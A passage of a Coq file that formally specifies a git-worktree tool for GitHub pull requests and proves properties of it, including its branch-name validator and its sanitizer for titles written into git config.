  && (HasSuffix key ".gh-worktree-pr-number" || HasSuffix key ".gh-worktree-pr-title").

(** C4 as it is claimed: with Detach, a run of Create writes neither
    tracking configuration nor pull-request metadata. *)
Definition detachWritesNothing {World : Type} `{System World}
    (c : worktree.Creator) (path : string) (pr : github.PullRequest)
    (opts : worktree.CheckoutOptions) (m : Machine World) : Prop :=
  worktree.Detach opts = true ->
  forall kv,
    In kv (configWrites (commandsRun m (snd (worktree.Create c path pr opts m)))) ->
    trackingKey (fst kv) = false /\ prMetadataKey (fst kv) = false.

(** *** The configuration store, as the tool reads it

    [git -C <root> config --local <key>] fails when the key is absent and
    prints its value when it is present. *)
Definition keyAbsent {World : Type} `{System World} (root key : string) (w : World) : Prop :=
  git_Output ["-C"; root; "config"; "--local"; key] w = None.

Definition keyPresent {World : Type} `{System World} (root key : string) (w : World) : Prop :=
  exists output, git_Output ["-C"; root; "config"; "--local"; key] w = Some output.

(** The key is present and its value, white space trimmed, is [value]. *)
Definition keyHolds {World : Type} `{System World} (root key value : string) (w : World)
    : Prop :=
  exists output,
    git_Output ["-C"; root; "config"; "--local"; key] w = Some output
    /\ TrimSpace output = value.

(** The REST paths of promoteRun. *)
Definition pullsOfBranchPath (repo : repository.Repository) (branch : string) : string :=
  "repos/" +:+ repository.Owner repo +:+ "/" +:+ repository.Name repo
  +:+ "/pulls?head=" +:+ repository.Owner repo +:+ ":" +:+ branch +:+ "&state=open".

Definition pullPath (repo : repository.Repository) (number : Z) : string :=
  "repos/" +:+ repository.Owner repo +:+ "/" +:+ repository.Name repo
  +:+ "/pulls/" +:+ strconv.Itoa number.

(** The pull-request number promoteRun works with: the one given, or,
    when 0 is given, that of the one open pull request of the branch. *)
Definition promotedNumber {World : Type} `{System World} (w : World)
    (repo : repository.Repository) (branch : string) (given number : Z) : Prop :=
  (given <> 0%Z /\ number = given)
  \/ (given = 0%Z
      /\ exists pr, client_Get_pulls (pullsOfBranchPath repo branch) w = Some [pr]
                    /\ number = github.Number pr).

(** C5 as it is claimed, for the case in parentheses: with the type key
    absent and the PR-number key present, promotion fails. *)
Definition promotionRejectsNumbered {World : Type} `{System World}
    (branch : string) (prNumber : Z) (m : Machine World) : Prop :=
  forall root,
    fst (git.GetRoot m) = Ok root ->
    keyAbsent root (typeKey branch) (world m) ->
    keyPresent root (prNumberKey branch) (world m) ->
    fst (cli.promoteRun branch prNumber m) <> None.

(** C5 as it is claimed, for what follows the dash: when the type is
    "branch" or unset, promotion succeeds. *)
Definition promotionSucceedsUntyped {World : Type} `{System World}
    (branch : string) (prNumber : Z) (m : Machine World) : Prop :=
  forall type,
    fst (worktree.GetWorktreeType branch m) = Ok type ->
    type = "branch" \/ type = "" ->
    fst (cli.promoteRun branch prNumber m) = None.

(** A base name of the form [<repo>-pr<digits>]. *)
Definition prWorktreeName (repo baseName : string) : Prop :=
  exists digits,
    digits <> "" /\ all strconv.isDigit digits = true
    /\ baseName = repo +:+ "-pr" +:+ digits.

(** *** Further vocabulary: names, URLs and plain bytes *)

(** A byte of the class [A-Za-z0-9._-]. *)
Definition repoNameChar (c : ascii) : bool :=
  let n := nat_of_ascii c in
  ((65 <=? n)%nat && (n <=? 90)%nat) || ((97 <=? n)%nat && (n <=? 122)%nat)
  || ((48 <=? n)%nat && (n <=? 57)%nat)
  || Ascii.eqb c "." || Ascii.eqb c "_" || Ascii.eqb c "-".

(** Non-empty, at most 100 bytes, no two dots in a row, only bytes of the
    class. *)
Definition wellFormedRepoName (name : string) : Prop :=
  name <> ""
  /\ (len name <= 100)%nat
  /\ (forall a b, name <> a +:+ ".." +:+ b)
  /\ all repoNameChar name = true.

(** A byte that may stand in the path of a URL as it is: no control
    byte, and none of [#], [?] and [%]. *)
Definition pathByte (c : ascii) : bool :=
  negb (url.isCTL c) && negb (Ascii.eqb c "#") && negb (Ascii.eqb c "?")
  && negb (Ascii.eqb c "%").

(** A printable ASCII byte other than the space. *)
Definition plainByte (c : ascii) : bool :=
  let n := nat_of_ascii c in (33 <=? n)%nat && (n <=? 126)%nat.

(** Does the sequence start with a byte that is not plain? *)
Definition startsOdd (w : string) : bool :=
  match w with
  | String x _ => negb (plainByte x)
  | "" => false
  end.

(** Do the commands all succeed, run one after the other from [w]? *)
Fixpoint runsOk {World : Type} `{System World} (cmds : list (list string)) (w : World)
    : bool :=
  match cmds with
  | [] => true
  | args :: rest => let '(ok, w') := git_Run args w in ok && runsOk rest w'
  end.

(** The world the commands leave, run one after the other from [w]. *)
Fixpoint worldAfter {World : Type} `{System World} (cmds : list (list string)) (w : World)
    : World :=
  match cmds with
  | [] => w
  | args :: rest => worldAfter rest (snd (git_Run args w))
  end.

(** The error ExecuteCommands returns for a command that fails. *)
Definition failureOf (args : list string) : error :=
  Wrap ("failed to execute git " +:+ Join args " ") ExitError.

(** Does the URL of the remote contain the owner and the name of the
    head repository of the pull request? *)
Definition headMatches (pr : github.PullRequest) (remote : git.Remote) : bool :=
  Contains (git.URL remote) (github.Login (github.Owner (github.Repo (github.Head pr))))
  && Contains (git.URL remote) (github.Name (github.Repo (github.Head pr))).

(** Is the head of the pull request in another repository than the one
    the tool runs in? *)
Definition isCrossRepo (c : worktree.Creator) (pr : github.PullRequest) : bool :=
  negb (String.eqb (github.Login (github.Owner (github.Repo (github.Head pr))))
                   (repository.Owner (worktree.repo c))).

(** The remote Create takes the head from, when there is one. *)
Definition headRemoteFor (c : worktree.Creator) (pr : github.PullRequest)
    : option git.Remote :=
  if isCrossRepo c pr then worktree.findHeadRemote c pr else worktree.findBaseRemote c.

(** A command other than [git submodule ...]. *)
Definition notSubmodule (cmd : list string) : Prop := head cmd <> Some "submodule".

(** A [git worktree add ...] command. *)
Definition addsWorktree (cmd : list string) : Prop :=
  List.firstn 2 cmd = ["worktree"; "add"].

(** A command other than the probe [git show-ref ...]. *)
Definition notProbe (cmd : list string) : Prop := head cmd <> Some "show-ref".

(** Every git command other than the probe succeeds. *)
Definition commandsSucceed {World : Type} `{System World} : Prop :=
  forall args (w : World), notProbe args -> fst (git_Run args w) = true.

(** The three writes of a promotion, in the order of the code. *)
Definition promotionCmds (root branch : string) (number : Z) (title : string)
    : list (list string) :=
  [ spec.setCmd root (spec.typeKey branch) "pr";
    spec.setCmd root (spec.prNumberKey branch) (strconv.Itoa number);
    spec.setCmd root (spec.prTitleKey branch) title ].

(** The error PromoteToPR returns when the write at position [i] among
    the three fails. *)
Definition promotionFailure (i : nat) : error :=
  Wrap (match i with
        | 0 => "failed to set worktree type"
        | 1 => "failed to set PR number"
        | _ => "failed to set PR title"
        end) ExitError.

(** A computation that leaves the state of the run as it is: it runs no
    command. *)
Definition readOnly {World A : Type} (c : M World A) : Prop :=
  forall m, snd (c m) = m.

(** The type GetWorktreeType gives a branch is "branch" or unset (which
    is also what the listings take it to be when it cannot be read). *)
Definition branchTyped {World : Type} `{System World} (branch : string)
    (m : Machine World) : bool :=
  match fst (worktree.GetWorktreeType branch m) with
  | Ok t => String.eqb t "branch" || String.eqb t ""
  | Err _ => true
  end.

(** The type GetWorktreeType gives a branch is "pr". *)
Definition prTyped {World : Type} `{System World} (branch : string)
    (m : Machine World) : bool :=
  match fst (worktree.GetWorktreeType branch m) with
  | Ok t => String.eqb t "pr"
  | Err _ => false
  end.

(** Two entries for the same worktree: the same path, commit and
    branch. *)
Definition sameWorktree (a b : worktree.Info) : Prop :=
  worktree.Path a = worktree.Path b
  /\ worktree.Commit a = worktree.Commit b
  /\ worktree.Branch a = worktree.Branch b.

(** The lines [git worktree list --porcelain] prints for a worktree: its
    path, its commit, and its branch ([detached] when it has none). *)
Definition porcelainBlock (wt : worktree.Info) : list string :=
  [ "worktree " +:+ worktree.Path wt; "HEAD " +:+ worktree.Commit wt;
    if String.eqb (worktree.Branch wt) "" then "detached"
    else "branch refs/heads/" +:+ worktree.Branch wt ].

(** The blocks of the worktrees, an empty line between two of them. *)
Fixpoint porcelainLines (wts : list worktree.Info) : list string :=
  match wts with
  | [] => [""]
  | [wt] => porcelainBlock wt
  | wt :: rest => porcelainBlock wt ++ "" :: porcelainLines rest
  end.

(** An entry as List makes it: no number and no title yet. *)
Definition unfilled (wt : worktree.Info) : Prop :=
  worktree.PRNumber wt = 0%Z /\ worktree.Title wt = "".

(** A name that can be the last element of a path: not empty, without
    slash, and neither [.] nor [..]. *)
Definition elementName (name : string) : Prop :=
  name <> "" /\ name <> "." /\ name <> ".." /\ all spec.notSlash name = true.

(** The names seen are the names of the remotes found, and these are
    distinct. *)
Definition remotesInv (st : list git.Remote * gset string) : Prop :=
  (forall name, name ∈ snd st <-> In name (map git.Name (fst st)))
  /\ List.NoDup (map git.Name (fst st)).

(** A line of [git remote -v] that gives a remote: it contains
    [(fetch)] and has two fields at least, the name and the URL. *)
Definition fetchLine (line name url : string) : Prop :=
  Contains line "(fetch)" = true
  /\ exists rest, Fields line = name :: url :: rest.

(** An argument that asks git to force. *)
Definition forceFlag (arg : string) : bool :=
  String.eqb arg "--force" || String.eqb arg "-f".

(** The git command of an argument list: what follows [-C <path>] when
    the list starts with it. *)
Definition subcommand (cmd : list string) : list string :=
  match cmd with
  | flag :: _ :: rest => if String.eqb flag "-C" then rest else cmd
  | _ => cmd
  end.

(** The commands that overwrite, whatever the number and the order of
    their arguments: a [worktree add] with a force flag or [-B] among its
    arguments, a fetch with a force flag among its arguments or with a
    refspec that starts with [+], and a [reset] with [--hard]. *)
Definition forced (cmd : list string) : bool :=
  match subcommand cmd with
  | verb :: args =>
      if String.eqb verb "worktree" then
        match args with
        | sub :: args =>
            String.eqb sub "add"
            && existsb (fun arg => forceFlag arg || String.eqb arg "-B") args
        | [] => false
        end
      else if String.eqb verb "fetch" then
        existsb forceFlag args || existsb (fun arg => HasPrefix arg "+") (tail args)
      else if String.eqb verb "reset" then existsb (String.eqb "--hard") args
      else false
  | [] => false
  end.

(** The fetch from the head remote: its refspec starts with [+] and
    names the remote-tracking ref of the head ref, or no destination at
    all with Detach. *)
Definition headFetch (remote : git.Remote) (pr : github.PullRequest)
    (opts : worktree.CheckoutOptions) : list string :=
  let headRef := github.Ref (github.Head pr) in
  [ "fetch"; git.Name remote;
    if worktree.Detach opts then "+refs/heads/" +:+ headRef
    else "+refs/heads/" +:+ headRef +:+ ":refs/remotes/" +:+ git.Name remote
         +:+ "/" +:+ headRef;
    "--no-tags" ].

End spec.

(* ===================================================================== *)
(** * Part II: verification                                               *)
(* ===================================================================== *)

(** ** Byte strings *)

Section StringFacts.
Import strings.

Lemma str_app_nil_r (s : string) : s +:+ "" = s.
Proof. induction s as [|c s IH]; simpl; [reflexivity | now rewrite IH]. Qed.

Lemma str_app_assoc (a b c : string) : (a +:+ b) +:+ c = a +:+ (b +:+ c).
Proof. induction a as [|x a IH]; simpl; [reflexivity | now rewrite IH]. Qed.

Lemma len_app (a b : string) : len (a +:+ b) = (len a + len b)%nat.
Proof. induction a as [|x a IH]; simpl; [reflexivity | unfold len in *; simpl; now rewrite IH]. Qed.

Lemma str_app_inv_head (a b c : string) : a +:+ b = a +:+ c -> b = c.
Proof. induction a as [|x a IH]; simpl; intros E; [exact E | injection E; auto]. Qed.

Lemma rev_onto_app (s acc : string) : rev_onto s acc = rev s +:+ acc.
Proof.
  unfold rev. revert acc.
  induction s as [|c s IH]; intros acc; simpl; [reflexivity|].
  rewrite (IH (String c acc)), (IH (String c "")), str_app_assoc. reflexivity.
Qed.

Lemma str_rev_cons (c : ascii) (s : string) : rev (String c s) = rev s +:+ String c "".
Proof. unfold rev at 1. simpl. apply rev_onto_app. Qed.

Lemma str_rev_app (a b : string) : rev (a +:+ b) = rev b +:+ rev a.
Proof.
  induction a as [|c a IH]; simpl.
  - now rewrite str_app_nil_r.
  - rewrite !str_rev_cons, IH, str_app_assoc. reflexivity.
Qed.

Lemma str_rev_involutive (s : string) : rev (rev s) = s.
Proof.
  induction s as [|c s IH]; [reflexivity|].
  rewrite str_rev_cons, str_rev_app, IH. reflexivity.
Qed.

Lemma len_rev (s : string) : len (rev s) = len s.
Proof.
  induction s as [|c s IH]; [reflexivity|].
  rewrite str_rev_cons, len_app, IH. unfold len. simpl. lia.
Qed.

Lemma str_app_inv_tail (a b c : string) : a +:+ c = b +:+ c -> a = b.
Proof.
  intros E. apply (f_equal rev) in E. rewrite !str_rev_app in E.
  apply str_app_inv_head in E. rewrite <- (str_rev_involutive a), E. apply str_rev_involutive.
Qed.

Lemma str_all_app (p : ascii -> bool) (a b : string) :
  all p (a +:+ b) = all p a && all p b.
Proof. induction a as [|c a IH]; simpl; [reflexivity | now rewrite IH, andb_assoc]. Qed.

Lemma all_rev (p : ascii -> bool) (s : string) : all p (rev s) = all p s.
Proof.
  induction s as [|c s IH]; [reflexivity|].
  rewrite str_rev_cons, str_all_app, IH. simpl. rewrite andb_true_r. apply andb_comm.
Qed.

Lemma all_impl (p q : ascii -> bool) (s : string) :
  (forall c, p c = true -> q c = true) -> all p s = true -> all q s = true.
Proof.
  intros Hpq. induction s as [|c s IH]; simpl; [reflexivity|].
  rewrite !andb_true_iff. intros [Hc Hs]. auto.
Qed.

Lemma all_ext (p q : ascii -> bool) (s : string) :
  (forall c, p c = q c) -> all p s = all q s.
Proof.
  intros Hpq. induction s as [|c s IH]; simpl; [reflexivity | now rewrite Hpq, IH].
Qed.

Lemma HasPrefix_nil (s : string) : HasPrefix s "" = true.
Proof. destruct s; reflexivity. Qed.

Lemma HasPrefix_iff (s p : string) :
  HasPrefix s p = true <-> exists r, s = p +:+ r.
Proof.
  revert s. induction p as [|x p IH]; intros s.
  - rewrite HasPrefix_nil. split; [exists s; reflexivity | reflexivity].
  - destruct s as [|c s]; simpl.
    + split; [discriminate | intros [r Hr]; discriminate].
    + rewrite andb_true_iff, Ascii.eqb_eq, IH. split.
      * intros [-> [r ->]]. exists r. reflexivity.
      * intros [r Hr]. injection Hr as -> ->. split; [reflexivity | exists r; reflexivity].
Qed.

Lemma HasPrefix_app (p r : string) : HasPrefix (p +:+ r) p = true.
Proof. apply HasPrefix_iff. exists r. reflexivity. Qed.

Lemma HasPrefix_weaken (t u w : string) :
  HasPrefix t w = true -> HasPrefix (t +:+ u) w = true.
Proof.
  rewrite !HasPrefix_iff. intros [r ->]. exists (r +:+ u). apply str_app_assoc.
Qed.

Lemma str_drop_app (p r : string) : drop (len p) (p +:+ r) = r.
Proof. induction p as [|x p IH]; simpl; [destruct r; reflexivity | exact IH]. Qed.

Lemma str_take_app (p r : string) : take (len p) (p +:+ r) = p.
Proof. induction p as [|x p IH]; simpl; [destruct r; reflexivity | now rewrite IH]. Qed.

Lemma str_take_drop (n : nat) (s : string) : take n s +:+ drop n s = s.
Proof.
  revert s. induction n as [|n IH]; intros [|c s]; simpl; try reflexivity.
  now rewrite IH.
Qed.

Lemma HasSuffix_iff (s x : string) :
  HasSuffix s x = true <-> exists front, s = front +:+ x.
Proof.
  unfold HasSuffix. rewrite HasPrefix_iff. split.
  - intros [r Hr]. exists (rev r).
    rewrite <- (str_rev_involutive s), Hr, str_rev_app, str_rev_involutive. reflexivity.
  - intros [front ->]. exists (rev front). apply str_rev_app.
Qed.

(** *** Trimming *)

Lemma leading_None (seqs : list string) (s : string) :
  leading seqs s = None <-> forall w, In w seqs -> HasPrefix s w = false.
Proof.
  unfold leading. split.
  - intros Hn w Hw. exact (find_none _ _ Hn w Hw).
  - intros Hall. destruct (List.find (HasPrefix s) seqs) as [w|] eqn:E; [|reflexivity].
    apply find_some in E as [Hin Hp]. rewrite (Hall w Hin) in Hp. discriminate.
Qed.

Lemma leading_Some (seqs : list string) (s w : string) :
  leading seqs s = Some w -> In w seqs /\ exists r, s = w +:+ r.
Proof.
  unfold leading. intros E. apply find_some in E as [Hin Hp].
  split; [exact Hin | now apply HasPrefix_iff].
Qed.

Lemma trimLeading_fix (seqs : list string) (fuel : nat) (s : string) :
  leading seqs s = None -> trimLeading seqs fuel s = s.
Proof. destruct fuel; simpl; [reflexivity | now intros ->]. Qed.

Lemma trimLeading_suffix (seqs : list string) (fuel : nat) (s : string) :
  exists p, s = p +:+ trimLeading seqs fuel s.
Proof.
  revert s. induction fuel as [|fuel IH]; intros s; simpl.
  - exists "". reflexivity.
  - destruct (leading seqs s) as [w|] eqn:E.
    + apply leading_Some in E as [_ [r ->]]. rewrite str_drop_app.
      destruct (IH r) as [p Hp]. exists (w +:+ p).
      rewrite str_app_assoc, <- Hp. reflexivity.
    + exists "". reflexivity.
Qed.

Lemma trimLeading_done (seqs : list string) (fuel : nat) (s : string) :
  (forall w, In w seqs -> w <> "") ->
  (len s <= fuel)%nat ->
  leading seqs (trimLeading seqs fuel s) = None.
Proof.
  intros Hne. revert s. induction fuel as [|fuel IH]; intros s Hlen; simpl.
  - destruct s; [|unfold len in Hlen; simpl in Hlen; lia].
    apply leading_None. intros w Hw. specialize (Hne w Hw).
    destruct w; [congruence | reflexivity].
  - destruct (leading seqs s) as [w|] eqn:E; [|exact E].
    apply leading_Some in E as [Hin [r ->]]. rewrite str_drop_app.
    apply IH. rewrite len_app in Hlen. specialize (Hne w Hin).
    destruct w; [congruence | unfold len in *; simpl in *; lia].
Qed.

Lemma whiteSpace_nonempty (w : string) : In w whiteSpace -> w <> "".
Proof. unfold whiteSpace. simpl. intros H; repeat destruct H as [<-|H]; try discriminate; destruct H. Qed.

Lemma whiteSpace_rev_nonempty (w : string) : In w (map rev whiteSpace) -> w <> "".
Proof. unfold whiteSpace. simpl. intros H; repeat destruct H as [<-|H]; try discriminate; destruct H. Qed.

Lemma TrimLeftSpace_done (s : string) : leading whiteSpace (TrimLeftSpace s) = None.
Proof. apply trimLeading_done; [apply whiteSpace_nonempty | reflexivity]. Qed.

Lemma TrimLeftSpace_suffix (s : string) : exists p, s = p +:+ TrimLeftSpace s.
Proof. apply trimLeading_suffix. Qed.

Lemma TrimRightSpace_prefix (s : string) : exists u, s = TrimRightSpace s +:+ u.
Proof.
  unfold TrimRightSpace.
  destruct (trimLeading_suffix (map rev whiteSpace) (len s) (rev s)) as [p Hp].
  exists (rev p). rewrite <- str_rev_app, <- Hp. symmetry. apply str_rev_involutive.
Qed.

Lemma TrimRightSpace_idem (s : string) :
  TrimRightSpace (TrimRightSpace s) = TrimRightSpace s.
Proof.
  unfold TrimRightSpace. rewrite str_rev_involutive. f_equal.
  apply trimLeading_fix, trimLeading_done;
    [apply whiteSpace_rev_nonempty | now rewrite len_rev].
Qed.

Lemma leading_prefix (seqs : list string) (t u : string) :
  leading seqs (t +:+ u) = None -> leading seqs t = None.
Proof.
  rewrite !leading_None. intros Hall w Hw. specialize (Hall w Hw).
  destruct (HasPrefix t w) eqn:E; [|reflexivity].
  now rewrite (HasPrefix_weaken t u w E) in Hall.
Qed.

Lemma TrimSpace_idem (s : string) : TrimSpace (TrimSpace s) = TrimSpace s.
Proof.
  unfold TrimSpace.
  destruct (TrimRightSpace_prefix (TrimLeftSpace s)) as [u Hu].
  assert (Hl : leading whiteSpace (TrimRightSpace (TrimLeftSpace s)) = None).
  { apply (leading_prefix _ _ u). rewrite <- Hu. apply TrimLeftSpace_done. }
  unfold TrimLeftSpace at 1. rewrite (trimLeading_fix _ _ _ Hl).
  apply TrimRightSpace_idem.
Qed.

Lemma TrimSpace_all (p : ascii -> bool) (s : string) :
  all p s = true -> all p (TrimSpace s) = true.
Proof.
  unfold TrimSpace. intros H.
  destruct (TrimLeftSpace_suffix s) as [a Ha].
  destruct (TrimRightSpace_prefix (TrimLeftSpace s)) as [b Hb].
  rewrite Ha, Hb, !str_all_app, !andb_true_iff in H. tauto.
Qed.

End StringFacts.

Section KeyFacts.
Import strings.

Lemma eqb_app_head (a x y : string) : String.eqb (a +:+ x) (a +:+ y) = String.eqb x y.
Proof.
  induction a as [|c a IH]; simpl; [reflexivity|].
  now rewrite Ascii.eqb_refl.
Qed.

Lemma HasPrefix_app_short (p s t : string) :
  (len p <= len s)%nat -> HasPrefix (s +:+ t) p = HasPrefix s p.
Proof.
  revert s. induction p as [|x p IH]; intros s Hlen.
  - now rewrite !HasPrefix_nil.
  - destruct s as [|c s]; [unfold len in Hlen; simpl in Hlen; lia|].
    simpl. rewrite IH; [reflexivity|]. unfold len in *. simpl in Hlen. lia.
Qed.

(** A suffix no longer than the last part is a suffix of the last part. *)
Lemma HasSuffix_app_short (a b x : string) :
  (len x <= len b)%nat -> HasSuffix (a +:+ b) x = HasSuffix b x.
Proof.
  intros Hlen. unfold HasSuffix. rewrite str_rev_app.
  apply HasPrefix_app_short. now rewrite !len_rev.
Qed.

Lemma HasSuffix_key (branch last x : string) :
  (len x <= len last)%nat ->
  HasSuffix ("branch." +:+ branch +:+ last) x = HasSuffix last x.
Proof. intros Hlen. rewrite <- str_app_assoc. now apply HasSuffix_app_short. Qed.




Lemma trackingKey_prNumber (branch : string) :
  spec.trackingKey (spec.prNumberKey branch) = false.
Proof.
  unfold spec.trackingKey, spec.prNumberKey.
  rewrite HasPrefix_app, !HasSuffix_key by (unfold len; simpl; lia).
  reflexivity.
Qed.

Lemma trackingKey_prTitle (branch : string) :
  spec.trackingKey (spec.prTitleKey branch) = false.
Proof.
  unfold spec.trackingKey, spec.prTitleKey.
  rewrite HasPrefix_app, !HasSuffix_key by (unfold len; simpl; lia).
  reflexivity.
Qed.

Lemma prMetadataKey_prNumber (branch : string) :
  spec.prMetadataKey (spec.prNumberKey branch) = true.
Proof.
  unfold spec.prMetadataKey, spec.prNumberKey.
  rewrite HasPrefix_app, !HasSuffix_key by (unfold len; simpl; lia).
  reflexivity.
Qed.

Lemma prMetadataKey_prTitle (branch : string) :
  spec.prMetadataKey (spec.prTitleKey branch) = true.
Proof.
  unfold spec.prMetadataKey, spec.prTitleKey.
  rewrite HasPrefix_app,
    (HasSuffix_key branch ".gh-worktree-pr-title" ".gh-worktree-pr-title")
    by (unfold len; simpl; lia).
  apply orb_true_r.
Qed.

End KeyFacts.

(** ** Regular expressions: one or more bytes of a class *)

Section RegexpFacts.
Import strings regexp.

Lemma MatchString_Alternate (s : string) (a b : Regexp) :
  MatchString (Alternate a b) s = MatchString a s || MatchString b s.
Proof. revert a b. induction s as [|c s IH]; intros a b; simpl; [reflexivity | apply IH]. Qed.

Lemma MatchString_NoMatch_Concat (s : string) (r : Regexp) :
  MatchString (Concat NoMatch r) s = false.
Proof. induction s as [|c s IH]; simpl; [reflexivity | exact IH]. Qed.

Lemma MatchString_Star_class (ranges : list (ascii * ascii)) (s : string) :
  MatchString (Concat EmptyMatch (Star (CharClass ranges))) s = all (inClass ranges) s.
Proof.
  induction s as [|c s IH]; simpl; [reflexivity|].
  rewrite MatchString_Alternate, MatchString_NoMatch_Concat. simpl.
  destruct (inClass ranges c); simpl; [exact IH | apply MatchString_NoMatch_Concat].
Qed.

Lemma MatchString_Plus_class (ranges : list (ascii * ascii)) (s : string) :
  MatchString (Plus (CharClass ranges)) s
  = negb (String.eqb s "") && all (inClass ranges) s.
Proof.
  destruct s as [|c s]; simpl; [reflexivity|].
  destruct (inClass ranges c); simpl;
    [apply MatchString_Star_class | apply MatchString_NoMatch_Concat].
Qed.

End RegexpFacts.

(** ** The branch-name validator (C8) *)

Section BranchNameFacts.
Import strings.

Lemma branch_class_bytes (c : ascii) :
  regexp.inClass
    [("a", "z"); ("A", "Z"); ("0", "9"); (".", "."); ("_", "_"); ("/", "/"); ("-", "-")]%char c
  = spec.branchNameChar c.
Proof. destruct c as [[] [] [] [] [] [] [] []]; reflexivity. Qed.

Lemma validBranchName_matches (name : string) :
  regexp.MatchString validate.validBranchName name
  = negb (String.eqb name "") && all spec.branchNameChar name.
Proof.
  unfold validate.validBranchName. rewrite MatchString_Plus_class. f_equal.
  apply all_ext, branch_class_bytes.
Qed.

Lemma no_leading_dash (name : string) :
  HasPrefix name "-" = false <-> forall rest, name <> "-" +:+ rest.
Proof.
  split.
  - intros E rest ->. now rewrite HasPrefix_app in E.
  - intros Hn. destruct (HasPrefix name "-") eqn:E; [|reflexivity].
    apply HasPrefix_iff in E as [rest ->]. now destruct (Hn rest).
Qed.

Lemma no_trailing_slash (name : string) :
  HasSuffix name "/" = false <-> forall front, name <> front +:+ "/".
Proof.
  split.
  - intros E front ->.
    assert (HasSuffix (front +:+ "/") "/" = true) by (apply HasSuffix_iff; eauto).
    congruence.
  - intros Hn. destruct (HasSuffix name "/") eqn:E; [|reflexivity].
    apply HasSuffix_iff in E as [front ->]. now destruct (Hn front).
Qed.

Lemma BranchName_nil_iff (name : string) :
  validate.BranchName name = None <-> spec.wellFormedBranchName name.
Proof.
  unfold validate.BranchName, spec.wellFormedBranchName.
  rewrite validBranchName_matches.
  destruct (String.eqb_spec name "") as [->|Hne]; simpl.
  { split; [discriminate | intros [H _]; congruence]. }
  destruct (Nat.ltb_spec 255 (len name)) as [Hlong|Hlen].
  { split; [discriminate | intros (_ & H & _); lia]. }
  destruct (all spec.branchNameChar name) eqn:Hall; simpl.
  2: { split; [discriminate | intros (_ & _ & H & _); discriminate]. }
  destruct (HasPrefix name "-") eqn:Hdash; simpl.
  { split; [discriminate|]. intros (_ & _ & _ & H & _).
    apply no_leading_dash in H. congruence. }
  destruct (HasSuffix name "/") eqn:Hslash.
  { split; [discriminate|]. intros (_ & _ & _ & _ & H).
    apply no_trailing_slash in H. congruence. }
  split; [|reflexivity]. intros _.
  repeat split; try assumption; try lia.
  - now apply no_leading_dash.
  - now apply no_trailing_slash.
Qed.

(** C8. The branch-name validator returns nil exactly for the strings that
    are non-empty, at most 255 characters long, made of characters of
    [A-Za-z0-9._/-] only, do not start with a dash and do not end with a
    slash; for every other string it returns an error. *)
Theorem BranchName_accepts_exactly (name : string) :
  (validate.BranchName name = None <-> spec.wellFormedBranchName name)
  /\ (validate.BranchName name = None
      \/ exists msg, validate.BranchName name = Some (Errorf msg)).
Proof.
  split; [apply BranchName_nil_iff|].
  unfold validate.BranchName.
  repeat match goal with |- context [if ?b then _ else _] => destruct b end;
    eauto.
Qed.

Example BranchName_accepts_feature_test : validate.BranchName "feature/test-1.2_x" = None.
Proof. reflexivity. Qed.

Example BranchName_rejects_leading_dash :
  validate.BranchName "-invalid" = Some (Errorf "invalid branch name format").
Proof. reflexivity. Qed.

Example BranchName_rejects_256 :
  validate.BranchName (String.concat "" (repeat "a" 256)) = Some (Errorf "branch name too long").
Proof. vm_compute. reflexivity. Qed.

End BranchNameFacts.

(** ** The title sanitizer (C9) *)

Section SanitizerFacts.
Import strings.

Lemma replaceFrom_byte (c : ascii) (new s : string) :
  ReplaceAll s (String c "") new = spec.substByte c new s.
Proof.
  unfold ReplaceAll. induction s as [|x s IH]; simpl; [reflexivity|].
  rewrite HasPrefix_nil, andb_true_r.
  destruct (Ascii.eqb x c); simpl; now rewrite IH.
Qed.

Lemma substByte_all (p q : ascii -> bool) (c : ascii) (new s : string) :
  all p new = true ->
  (forall x, q x = true -> x <> c -> p x = true) ->
  all q s = true ->
  all p (spec.substByte c new s) = true.
Proof.
  intros Hnew Hqp. induction s as [|x s IH]; simpl; [reflexivity|].
  rewrite andb_true_iff. intros [Hx Hs].
  destruct (Ascii.eqb_spec x c) as [->|Hne].
  - rewrite str_all_app, Hnew. now apply IH.
  - simpl. rewrite (Hqp x Hx Hne). now apply IH.
Qed.

Lemma substByte_absent (c : ascii) (new s : string) :
  all (fun x => negb (Ascii.eqb x c)) s = true -> spec.substByte c new s = s.
Proof.
  induction s as [|x s IH]; simpl; [reflexivity|].
  rewrite andb_true_iff. intros [Hx Hs].
  destruct (Ascii.eqb x c); [discriminate | now rewrite IH].
Qed.

Lemma avoids_app (cs ds : list ascii) (x : ascii) :
  spec.avoids (cs ++ ds) x = spec.avoids cs x && spec.avoids ds x.
Proof. unfold spec.avoids. apply forallb_app. Qed.

(** After the rules have been applied, none of the bytes they replace is
    left, provided no replacement brings one in. *)
Lemma applyRules_avoids (rules : list (ascii * string)) :
  forall (done : list ascii) (s : string),
    (forall rule, In rule rules ->
       all (spec.avoids (done ++ map fst rules)) (snd rule) = true) ->
    all (spec.avoids done) s = true ->
    all (spec.avoids (done ++ map fst rules)) (spec.applyRules rules s) = true.
Proof.
  induction rules as [|[c new] rules IH]; intros done s Hnew Hs; simpl.
  - now rewrite List.app_nil_r.
  - replace (done ++ c :: map fst rules) with ((done ++ [c]) ++ map fst rules)
      by (now rewrite <- List.app_assoc).
    apply IH.
    + intros rule Hin. rewrite <- List.app_assoc. apply Hnew. now right.
    + apply (substByte_all _ (spec.avoids done)); [| |exact Hs].
      * specialize (Hnew (c, new) (or_introl eq_refl)). simpl in Hnew.
        revert Hnew. apply all_impl. intros x.
        rewrite !avoids_app. simpl. rewrite !andb_true_iff. tauto.
      * intros x Hx Hne. rewrite avoids_app, Hx. simpl.
        destruct (Ascii.eqb_spec x c); [contradiction | reflexivity].
Qed.

(** A string without any of the replaced bytes is left as it is. *)
Lemma applyRules_fix (rules : list (ascii * string)) (s : string) :
  all (spec.avoids (map fst rules)) s = true -> spec.applyRules rules s = s.
Proof.
  revert s. induction rules as [|[c new] rules IH]; intros s Hs; simpl; [reflexivity|].
  rewrite substByte_absent.
  - apply IH. revert Hs. apply all_impl. intros x. simpl.
    rewrite andb_true_iff. tauto.
  - revert Hs. apply all_impl. intros x. simpl. rewrite andb_true_iff. tauto.
Qed.

Lemma Sanitize_by_rules (value : string) :
  validate.SanitizeForGitConfig value
  = TrimSpace (spec.applyRules spec.sanitizerRules value).
Proof.
  unfold validate.SanitizeForGitConfig, validate.shellSpecial. simpl fold_left.
  rewrite !replaceFrom_byte. reflexivity.
Qed.

Lemma sanitized_avoids (value : string) :
  all (spec.avoids (map fst spec.sanitizerRules))
      (spec.applyRules spec.sanitizerRules value) = true.
Proof.
  apply (applyRules_avoids spec.sanitizerRules []).
